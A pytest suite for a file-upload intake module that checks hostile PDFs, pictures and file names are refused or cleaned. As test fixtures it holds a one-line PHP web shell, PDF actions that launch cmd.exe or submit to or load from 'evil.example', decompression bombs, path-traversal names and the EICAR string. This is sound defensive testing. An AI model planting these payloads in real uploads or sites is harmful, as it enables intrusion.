"""Files that strangers send: what is honest is let in and made harmless, what is hostile is refused and leaves nothing."""

import functools
import io
import os
import socket
import struct
import subprocess
import sys
import threading
import unicodedata
import zipfile
import zlib
from pathlib import Path
from typing import Self

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name
from PIL import Image, PngImagePlugin

from tests.conftest import AT
from tinhso.core import files, intake, media
from tinhso.core.intake import names, pdf, pdf_check, pictures, scan
from tinhso.core.models import StoredFile

PHP = b"<?php system($_GET['c']); ?>"
# The harmless virus to try scanners with; put together here so that no scanner takes this file for it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
AS_THEY_ARE = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def take(content, name="don.pdf"):
    return intake.take(content=io.BytesIO(content), name=name, at=AT)


def refused(content, name="don.pdf"):
    """Why a content is refused; that nothing of it is stored is seen to."""
    with pytest.raises(intake.FileRefused) as refusal:
        take(content, name)
    assert not StoredFile.objects.exists()
    assert str(refusal.value).count(".") == 1 + name.count(".")
    return refusal.value.reason


def stored(taken):
    with files.open_stored(taken.file.sha256) as content:
        return content.read()


def document(pages=1):
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page()
    return made


def written(made, **options):
    content = io.BytesIO()
    made.save(content, **options)
    return content.getvalue()


def picture(kind="JPEG", size=(40, 20), mode="RGB", color="red", **options):
    content = io.BytesIO()
    Image.new(mode, size, color).save(content, kind, **options)
    return content.getvalue()


def noise(kind="JPEG", size=(64, 64)):
    """A picture of many colors."""
    content = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(3 * size[0] * size[1])).save(content, kind)
    return content.getvalue()


def archive(name="a.txt", content=b"a", comment=b""):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, content)
        file.comment = comment
    return made.getvalue()


@functools.cache
def packed(megabytes):
    """So many megabytes of noughts, deflated."""
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(1 << 20)) for _number in range(megabytes)]) + packer.flush()


# ---- size ------------------------------------------------------------------------------------------------------------


def test_an_empty_file_is_refused(db):
    assert refused(b"") == "empty"


def test_an_endless_stream_is_left_at_the_limit(db, settings):
    settings.UPLOAD_MAX_MB = 1

    class Endless(io.RawIOBase):
        given = 0

        def read(self, size=-1):
            assert size > 0, "reads to the end"
            self.given += size
            return b"%PDF-1.7\n".ljust(size, b"x")

    stream = Endless()
    with pytest.raises(intake.FileRefused) as refusal:
        intake.take(content=stream, name="a.pdf", at=AT)

    assert refusal.value.reason == "large"
    assert "1 MB" in str(refusal.value)
    assert stream.given <= (1 << 20) + intake.CHUNK


def test_a_file_of_the_very_limit_is_let_in(db, settings):
    settings.UPLOAD_MAX_MB = 1
    made, length = document(), 1 << 20
    content = b""
    while len(content) != 1 << 20:  # the length of the length changes, too
        made.Root.Thing = made.make_stream(bytes(length))
        content = written(made, **AS_THEY_ARE)
        length -= len(content) - (1 << 20)

    assert take(content).size == 1 << 20
    with pytest.raises(intake.FileRefused, match="1 MB"):
        take(content + b"\n")


# ---- type ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"GIF89a" + bytes(50),
        b"MZ" + bytes(100),
        PHP,
        archive("word/document.xml", bytes(50 << 20)),  # a bomb that calls itself a document
        archive() + b"%PDF-1.7\n%%EOF",
    ],
    ids=["svg", "html", "gif", "exe", "php", "docx bomb", "zip before pdf"],
)
@pytest.mark.parametrize("name", ["don.pdf", "anh.jpg", "don.docx"])
def test_other_types_are_refused_whatever_they_are_called(db, content, name):
    assert refused(content, name) == "kind"


def test_heic_is_refused_with_what_to_do(db):
    assert refused(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(50), "IMG_1.HEIC") == "heic"


def test_the_content_tells_the_type_and_not_the_name(db):
    taken = take(written(document()), "ảnh.jpg")

    assert (taken.media_type, taken.name) == (media.PDF, "ảnh.pdf")


# ---- PDF -------------------------------------------------------------------------------------------------------------


def test_a_pdf_is_stored_byte_for_byte(db):
    content = written(document(300), object_stream_mode=pikepdf.ObjectStreamMode.generate)

    taken = take(content, "Đơn xin.PDF")

    assert stored(taken) == content
    assert (taken.media_type, taken.name, taken.size, taken.scan) == (
        media.PDF,
        "Đơn xin.pdf",
        len(content),
        "unscanned",
    )


def test_links_and_places_to_open_at_are_harmless(db):
    made = document()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, F=4, A=Dictionary(S=Name.URI, URI="https://sonla.gov.vn"))
    made.pages[0].obj.Annots = Array([link])
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    made.Root.Words = "say /S /JavaScript"

    assert take(written(made)).media_type == media.PDF


def with_script(made):
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def with_named_script(made):
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript)])))


def with_script_on_a_page(made):
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)")))


def with_script_in_disguise(made):
    made.Root.OpenAction = Dictionary(S=made.make_indirect(Name.JavaScript), Next=Array([]))


def with_launch(made):
    made.Root.OpenAction = Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.Launch, F="cmd.exe")]))


def with_submission(made):
    made.pages[0].obj.AA = made.make_indirect(Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://evil.example")))


def with_import(made):
    made.Root.OpenAction = Dictionary(S=Name.ImportData, F="a.fdf")


def with_another_file(made):
    made.Root.OpenAction = Dictionary(S=Name.GoToR, F="\\\\evil.example\\a.pdf")


def with_content_elsewhere(made):
    made.pages[0].Contents = made.make_stream(b"", F="a.txt")


def with_attachment(made):
    made.attachments["a.pdf"] = written(document())


def with_dynamic_form(made):
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


ACTIVE = [
    (with_script, "script"),
    (with_named_script, "script"),
    (with_script_on_a_page, "script"),
    (with_script_in_disguise, "script"),
    (with_launch, "action"),
    (with_submission, "action"),
    (with_import, "action"),
    (with_another_file, "action"),
    (with_content_elsewhere, "action"),
    (with_attachment, "attachment"),
    (with_dynamic_form, "form"),
]


@pytest.mark.parametrize("in_object_streams", [False, True])
@pytest.mark.parametrize(("change", "reason"), ACTIVE)
def test_active_pdfs_are_refused(db, change, reason, in_object_streams):
    made = document()
    change(made)
    mode = pikepdf.ObjectStreamMode.generate if in_object_streams else pikepdf.ObjectStreamMode.disable

    assert refused(written(made, object_stream_mode=mode)) == reason


def test_a_name_in_disguise_is_seen(db):
    made = document()
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, Pad="xxxxx")
    content = written(made).replace(b"/JavaScript", b"/J#61vaScript").replace(b"(xxxxx)", b"(xxx)")

    assert b"#61" in content
    assert refused(content) == "script"


@pytest.mark.parametrize("user", ["mo", ""])
@pytest.mark.parametrize("strength", [3, 4, 6])
def test_encrypted_pdfs_are_refused(db, user, strength):
    cipher = pikepdf.Encryption(user=user, owner="chu", R=strength, aes=strength > 3, metadata=strength > 3)

    assert refused(written(document(), encryption=cipher)) == "encrypted"


def test_long_pdfs_are_refused(db):
    assert refused(written(document(301))) == "pages"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda content: content + archive(), "mixed"),
        (lambda content: content + archive(comment=b"%%EOF"), "mixed"),
        (lambda content: content + PHP, "mixed"),
        (lambda content: b"\xef\xbb\xbf" + content, "mixed"),
        (lambda content: b"\n" + content, "kind"),
        (lambda content: content[:-60], "damaged"),
        (lambda content: content[: len(content) // 2] + b"%%EOF", "damaged"),
        (lambda content: content.replace(b"/Pages", b"/Pag(s"), "damaged"),
        (lambda content: b"%PDF-1.7\n%%EOF", "damaged"),
    ],
)
def test_damaged_and_mixed_pdfs_are_refused(db, change, reason):
    assert refused(change(written(document()))) == reason


def test_a_pdf_without_pages_is_refused(db):
    assert refused(written(document(pages=0))) == "damaged"


def one_bomb(made):
    return made.make_stream(packed(250), Filter=Name.FlateDecode)


def packed_twice(made):
    return made.make_stream(zlib.compress(packed(250)), Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def packed_often(made):
    return made.make_stream(zlib.compress(b"x"), Filter=Array([Name.FlateDecode] * 20))


def around_a_picture(made):
    return made.make_stream(packed(250), Filter=Array([Name.FlateDecode, Name.DCTDecode]))


def many_small_bombs(made):
    return Array([made.make_stream(packed(60), Filter=Name.FlateDecode) for _number in range(4)])


@pytest.mark.parametrize("make", [one_bomb, packed_twice, packed_often, around_a_picture, many_small_bombs])
def test_pdfs_that_unpack_without_end_are_refused(db, make):
    made = document()
    made.pages[0].obj.Thing = make(made)

    assert refused(written(made, **AS_THEY_ARE)) == "bomb"


def object_stream_bomb(megabytes):
    """A PDF whose catalog and pages lie in an object stream with that much white space after them."""
    numbers, objects = b"1 0 2 50 ", b"<</Type/Catalog/Pages 2 0 R>>".ljust(50) + b"<</Type/Pages/Count 1/Kids[4 0 R]>>"
    packer = zlib.compressobj(9)
    body = packer.compress(numbers + objects)
    body += b"".join([packer.compress(b" " * (1 << 20)) for _number in range(megabytes)]) + packer.flush()
    parts = [
        b"%PDF-1.5\n",
        b"3 0 obj<</Type/ObjStm/N 2/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(numbers), len(body))
        + body
        + b"\nendstream endobj\n",
        b"4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
    ]
    places = [sum(map(len, parts[:count])) for count in (1, 2, 3)]
    rows = [(0, 0, 255), (2, 3, 0), (2, 3, 1), *((1, place, 0) for place in places)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
    head = b"5 0 obj<</Type/XRef/Size 6/Root 1 0 R/W[1 4 1]/Length %d>>stream\n" % len(table)
    return b"".join([*parts, head, table, b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % places[2]])


def test_an_object_stream_that_unpacks_without_end_is_refused(db):
    assert refused(object_stream_bomb(250)) in {"bomb", "damaged"}  # its objects are never seen


def test_the_object_stream_itself_is_no_reason(db):
    assert take(object_stream_bomb(1)).media_type == media.PDF


def limited(code):
    """How a process ends that limits itself as the inspection does and then runs code."""
    program = f"import sys, socket; sys.path.insert(0, {os.path.dirname(pdf_check.__file__)!r})\n"  # noqa: PTH120
    program += f"import pdf_check; pdf_check.limit()\n{code}"
    return subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize(
    ("code", "problem"),
    [
        ("bytearray(2 << 30)", "MemoryError"),
        ("socket.socket()", "Too many open files"),
        ("open('/tmp/x', 'w')", "Too many open files"),
        ("sys.stdin.close(); import subprocess; subprocess.run(['true'])", "Error"),
    ],
)
def test_the_inspection_can_do_nothing_but_look(code, problem):
    ended = limited(code)

    assert ended.returncode == 1
    assert problem in ended.stderr


def test_an_inspection_without_end_is_ended(db, monkeypatch):
    monkeypatch.setattr(pdf, "WALL_SECONDS", 0.01)

    assert refused(written(document())) == "heavy"


@pytest.mark.parametrize("code", ["import os; os.abort()", "print('whatever')", "", "1 / 0", "print('ok'); 1 / 0"])
def test_an_inspection_that_breaks_refuses(db, monkeypatch, tmp_path, code):
    program = tmp_path / "broken.py"
    program.write_text(code, encoding="utf-8")
    monkeypatch.setattr(pdf_check, "__file__", str(program))

    assert refused(written(document())) == "heavy"


def test_the_inspection_is_told_no_secrets(db, monkeypatch, tmp_path):
    program, seen = tmp_path / "curious.py", tmp_path / "seen"
    program.write_text(f"import os; open({str(seen)!r}, 'w').write(' '.join(os.environ)); print('ok')", "utf-8")
    monkeypatch.setattr(pdf_check, "__file__", str(program))

    take(written(document()))

    assert set(seen.read_text(encoding="utf-8").split()) <= {"PATH", "PYTHONPATH", "LC_CTYPE"}


# ---- pictures --------------------------------------------------------------------------------------------------------


def opened(taken):
    return Image.open(io.BytesIO(stored(taken)))


def test_metadata_goes_and_the_picture_stands_upright(db):
    exif = Image.Exif()
    exif[pictures.ORIENTATION] = 6  # held upright: turned a quarter when shown
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 19.0, 0.0), 3: "E", 4: (103.0, 54.0, 0.0)})
    content = picture(size=(40, 20), exif=exif, comment=b"my home", icc_profile=b"icc" * 100, xmp=b"<x:xmpmeta/>")

    taken = take(content, "anh.jpeg")

    shown = opened(taken)
    assert (shown.size, shown.format, taken.media_type, taken.name) == ((20, 40), "JPEG", media.JPEG, "anh.jpeg")
    assert not shown.getexif()
    assert not {"comment", "icc_profile", "xmp", "exif"} & set(shown.info)
    assert not any(word in stored(taken) for word in (b"Exif", b"GPS", b"my home", b"icc", b"xmp"))


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_way_of_holding_a_camera_is_understood(db, orientation):
    corner = Image.new("L", (64, 32), 0)
    corner.paste(255, (0, 0, 32, 16))  # white at the upper left
    exif = Image.Exif()
    exif[pictures.ORIENTATION] = orientation
    turned = {2: 0, 3: 3, 4: 1, 5: 5, 6: 2, 7: 6, 8: 4}  # that Pillow undoes
    held = corner if orientation == 1 else corner.transpose(Image.Transpose(turned[orientation]))
    content = io.BytesIO()
    held.save(content, "JPEG", exif=exif)

    shown = opened(take(content.getvalue(), "a.jpg"))

    assert shown.size == (64, 32)
    assert shown.getpixel((8, 8)) > 200
    assert max(shown.getpixel(place) for place in ((56, 8), (8, 24), (56, 24))) < 50


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_program_behind_or_in_a_picture_is_gone(db, kind):
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", PHP.decode())
    options = {"pnginfo": note} if kind == "PNG" else {"comment": PHP}
    content = picture(kind, **options) + PHP + archive()

    taken = take(content, "anh.php")

    assert b"<?php" in content
    assert b"<?php" not in stored(taken)
    assert b"PK" not in stored(taken)
    assert taken.name.endswith((".jpg", ".png"))


def test_drawings_stay_png_and_photographs_become_jpeg(db):
    drawing, photograph = take(picture("PNG"), "a.png"), take(noise("PNG"), "b.png")

    assert (drawing.media_type, drawing.name, opened(drawing).format) == (media.PNG, "a.png", "PNG")
    assert (photograph.media_type, photograph.name, opened(photograph).format) == (media.JPEG, "b.jpg", "JPEG")


@pytest.mark.parametrize(("mode", "color"), [("1", 1), ("L", 255), ("P", 0), ("LA", (0, 0)), ("RGBA", (9, 9, 9, 0))])
def test_what_is_transparent_is_white_paper(db, mode, color):
    content = picture("PNG", mode=mode, color=color, **({"transparency": 0} if mode == "P" else {}))

    assert opened(take(content, "a.png")).convert("L").getpixel((5, 5)) == 255


def test_sixteen_bits_become_eight(db):
    assert opened(take(picture("PNG", mode="I;16", color=32768), "a.png")).getpixel((5, 5)) == 128


def test_colors_of_print_are_shown(db):
    red, green, blue = opened(take(picture(mode="CMYK", color=(0, 255, 255, 0)), "a.jpg")).getpixel((5, 5))

    assert red > 200
    assert max(green, blue) < 60


def test_large_pictures_become_smaller(db):
    assert opened(take(picture(size=(6200, 3100)), "a.jpg")).size == (3000, 1500)


def header_only(width, height):
    """A PNG that says its size and has nothing of it."""
    content = picture("PNG", mode="L", color=0)
    size = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + content[24:29]
    return content[:12] + size + zlib.crc32(size).to_bytes(4, "big") + content[33:]


@pytest.mark.parametrize("side", [6400, 10_000, 20_000, 100_000])
def test_huge_pictures_are_refused_before_they_are_decoded(db, side):
    assert refused(header_only(side, side), "a.png") == "pixels"


@pytest.mark.parametrize(
    "content",
    [
        noise()[:500],
        noise()[:30],
        b"\xff\xd8\xff\xe0" + bytes(1000),
        header_only(500, 500),
        noise("PNG")[:300],
        b"\x89PNG\r\n\x1a\n" + bytes(100),
        noise("PNG").replace(b"IDAT", b"IDAX"),
    ],
)
def test_broken_pictures_are_refused(db, content):
    assert refused(content, "a.jpg") == "picture"


@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's, about EXIF that it leaves out
@given(st.data())
def test_no_broken_picture_is_more_than_refused(data):
    kind = data.draw(st.sampled_from(["JPEG", "PNG"]))
    exif = Image.Exif()
    exif[pictures.ORIENTATION] = 6
    content = bytearray(picture(kind, size=(9, 9), exif=exif))
    for place, value in data.draw(
        st.lists(st.tuples(st.integers(4, len(content) - 1), st.integers(0, 255)), max_size=5)
    ):
        content[place] = value

    try:
        pictures.drawn_anew(io.BytesIO(content), media_type=f"image/{kind.lower()}", name="a")
    except intake.FileRefused as refusal:
        assert refusal.reason in {"picture", "pixels"}


# ---- names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\a\\Đơn.pdf", "Đơn.pdf"),
        ("..", "tệp.pdf"),
        ("", "tệp.pdf"),
        (".pdf", "tệp.pdf"),
        ("don\u202efdp.exe", "donfdp.exe.pdf"),
        ("a\u200b\u2066\x00\x1b[31m\r\n.PDF", "a[31m.pdf"),
        (unicodedata.normalize("NFD", "Giấy chứng nhận.pdf"), "Giấy chứng nhận.pdf"),
        ("virus.pdf.exe", "virus.pdf.exe.pdf"),
        ("con.pdf", "_con.pdf"),
        ("falcon.pdf", "falcon.pdf"),
        ('a<b>:"|?*.pdf', "a_b______.pdf"),
        ("Nghị định 13.2023", "Nghị định 13.2023.pdf"),
        ("ảnh thẻ.JPG", "ảnh thẻ.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_cleaned(name, kept):
    assert names.safe(name, media.PDF) == kept


def test_a_right_ending_is_kept():
    assert names.safe("a.jpeg", media.JPEG) == "a.jpeg"
    assert names.safe("a.png", media.JPEG) == "a.jpg"


letters = st.text(st.characters() | st.sampled_from(list("/\\. \u202e\u0301\u0e33ạ\n<:")), max_size=200)


@given(letters, st.sampled_from([media.PDF, media.JPEG, media.PNG]))
def test_names_are_always_safe(name, media_type):
    kept = names.safe(name, media_type)

    assert 4 < len(kept) <= names.MOST_LETTERS
    assert kept.endswith(names.ENDINGS[media_type])
    assert unicodedata.is_normalized("NFC", kept)
    assert not set(kept) & set('/\\<>:"|?*')
    assert not any(unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"} for letter in kept)
    assert not kept.startswith((".", " "))
    assert names.safe(kept, media_type) == kept
    kept.encode()


def test_a_refusal_quotes_the_clean_name(db):
    with pytest.raises(intake.FileRefused) as refusal:
        take(b"", "../a\u202e\x00.pdf")

    assert "“a.pdf”" in str(refusal.value)


# ---- scanning --------------------------------------------------------------------------------------------------------


class Clamd:
    """A virus scanner that speaks ClamAV's INSTREAM and knows one virus; it listens on loopback, or at a path.

    Attributes:
        seen: contents that came, in order.
        answer: bytes to answer with; None to answer as the content deserves.
        is_slow: never answers.
    """

    def __init__(self, path: Path | None = None) -> None:
        self.seen: list[bytes] = []
        self.answer: bytes | None = None
        self.is_slow = False
        self._listener = socket.socket(socket.AF_UNIX if path else socket.AF_INET)
        self._listener.bind(str(path) if path else ("127.0.0.1", 0))
        self.port = 0 if path else self._listener.getsockname()[1]
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> Self:
        self._listener.listen()
        self._listener.settimeout(0.05)
        self._thread.start()
        return self

    def __exit__(self, *_problem: object) -> None:
        self._over.set()
        self._thread.join()
        self._listener.close()

    def _serve(self) -> None:
        while not self._over.is_set():
            try:
                link, _address = self._listener.accept()
            except TimeoutError:
                continue
            with link:
                link.settimeout(5)
                self._talk(link)

    def _talk(self, link: socket.socket) -> None:
        assert _exactly(link, 10) == b"zINSTREAM\0"
        content = b""
        while length := struct.unpack("!L", _exactly(link, 4))[0]:
            content += _exactly(link, length)
        self.seen.append(content)
        if self.is_slow:
            self._over.wait()
            return
        verdict = b"stream: Eicar-Test-Signature FOUND\0" if EICAR in content else b"stream: OK\0"
        link.sendall(verdict if self.answer is None else self.answer)


def _exactly(link: socket.socket, length: int) -> bytes:
    received = b""
    while len(received) < length:
        more = link.recv(length - len(received))
        assert more, "the client went away"
        received += more
    return received


@pytest.fixture
def clamd(settings):
    with Clamd() as daemon:
        settings.UPLOAD_SCANNER = f"clamd://127.0.0.1:{daemon.port}"
        yield daemon


def infected():
    made = document()
    made.pages[0].Contents = made.make_stream(EICAR)
    return written(made, **AS_THEY_ARE)


def test_without_a_scanner_nothing_is_called_clean(db):
    assert take(infected()).scan == "unscanned"


def test_a_scanned_file_is_clean(db, clamd):
    content = written(document())

    assert take(content).scan == "clean"
    assert clamd.seen == [content]


def test_a_virus_is_refused(db, clamd):
    assert refused(infected()) == "infected"


def test_a_picture_is_scanned_as_it_came(db, clamd):
    assert refused(picture(comment=EICAR), "a.jpg") == "infected"


def test_long_files_are_sent_in_chunks(db, clamd):
    made = document()
    made.Root.Thing = made.make_stream(os.urandom(3 * scan.CHUNK + 7))
    content = written(made)

    assert take(content).scan == "clean"
    assert clamd.seen == [content]


@pytest.mark.parametrize(
    "answer", [b"INSTREAM size limit exceeded. ERROR\0", b"stream: Broken ERROR\0", b"", b"\xff" * 9000]
)
def test_a_scanner_that_cannot_tell_is_asked_again_later(db, clamd, answer):
    clamd.answer = answer

    taken = take(written(document()))

    assert taken.scan == "pending"
    clamd.answer = None
    assert scan.scan_again(taken.file) == "clean"


def test_a_slow_scanner_is_not_waited_for(db, clamd, monkeypatch):
    monkeypatch.setattr(scan, "SECONDS", 0.1)
    clamd.is_slow = True

    assert take(written(document())).scan == "pending"


def test_a_scanner_that_is_down_stops_nobody(db, settings):
    with Clamd() as daemon:
        settings.UPLOAD_SCANNER = f"clamd://127.0.0.1:{daemon.port}"

    assert take(written(document())).scan == "pending"


def test_a_scanner_behind_a_local_socket(db, settings, tmp_path):
    settings.UPLOAD_SCANNER = f"clamd://{tmp_path / 'clamd.ctl'}"
    assert take(written(document())).scan == "pending"

    with Clamd(tmp_path / "clamd.ctl"):
        assert take(written(document())).scan == "clean"


def test_what_was_let_in_unscanned_is_found_later(db, settings):
    taken = take(infected())

    with Clamd() as daemon:
        settings.UPLOAD_SCANNER = f"clamd://127.0.0.1:{daemon.port}"
        assert scan.scan_again(taken.file) == "infected"
